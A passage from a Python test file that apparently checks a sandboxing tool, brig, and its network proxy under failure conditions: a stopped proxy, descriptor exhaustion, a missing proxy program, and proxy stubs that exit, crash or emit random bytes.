        process.kill()
        process.wait(60)
        assert hostview.wait_for(lambda: not [p for p in pids if os.path.exists(f"/proc/{p}")
                                              and hostview.stat_fields(p)[1] not in "ZX"]), "a stopped proxy stays"
    finally:
        end_tree(process)


@lab_cells(LAB_ONE_EACH)
def test_N20_the_proxy_has_no_descriptors(cell, lab, diff):
    """The proxy may not open another descriptor: requests fail, it survives, and works again after."""
    process, first = start_looping(cell)
    try:
        assert first[:2] == [200, 200], first
        watch = lab.watch()
        pids = proxy_of(process)
        for pid in pids:
            used = max(hostview.descriptors(pid), default=3) + 1
            uid, gid = (hostview.status(pid)[k].split()[0] for k in ("Uid", "Gid"))
            lower = subprocess.run(["setpriv", f"--reuid={uid}", f"--regid={gid}", "--clear-groups", "prlimit", f"--pid={pid}", f"--nofile={used}:{used}"], capture_output=True, text=True)
            assert lower.returncode == 0, lower.stderr
        results = next_round(process)
        assert results is None or 200 not in results[2:], results
        watch.only(*WEB)
    finally:
        end_tree(process)


@lab_cells()
def test_N20_no_proxy_program_no_start(cell, lab):
    """Without brig-proxy beside it brig refuses to start a run that needs it."""
    place = PLACE.folder("alone")
    alone = place / "brig"
    alone.write_bytes(open(PLACE.brig, "rb").read())
    alone.chmod(0o755)
    argv = cell.argv(["/bin/echo", "ran"], ALLOW)
    argv[argv.index(PLACE.brig)] = str(alone)
    done = subprocess.run(argv, capture_output=True, text=True, env=cell.env(), stdin=subprocess.DEVNULL)
    assert done.returncode == REFUSED and "ran" not in done.stdout, done
    assert "brig-proxy" in done.stderr + done.stdout, done


@lab_cells(LAB_ONE_EACH)
def test_N20_K26_a_proxy_that_does_not_come_up(cell, lab, diff):
    """One that exits at once, one that says nothing, one that talks nonsense: the code never runs, nothing is left."""
    place = PLACE.folder("broken")
    (place / "brig").write_bytes(open(PLACE.brig, "rb").read())
    (place / "brig").chmod(0o755)
    bodies = {"exits": "exit 0", "fails": "exit 1", "dies": "kill -9 $$", "nonsense": "head -c 2000 /dev/urandom >&3; sleep 1"}
    for name, body in bodies.items():
        (place / "brig-proxy").write_text(f"#!/bin/sh\n{body}\n")
        (place / "brig-proxy").chmod(0o755)
        argv = cell.argv(["/bin/echo", "ran"], ALLOW)
        argv[argv.index(PLACE.brig)] = str(place / "brig")
        done = subprocess.run(argv, capture_output=True, text=True, env=cell.env(), stdin=subprocess.DEVNULL, timeout=60)
        assert done.returncode == REFUSED and '"ran' not in done.stdout, (name, done)
        assert "brig-proxy" in done.stdout + done.stderr, (name, done)
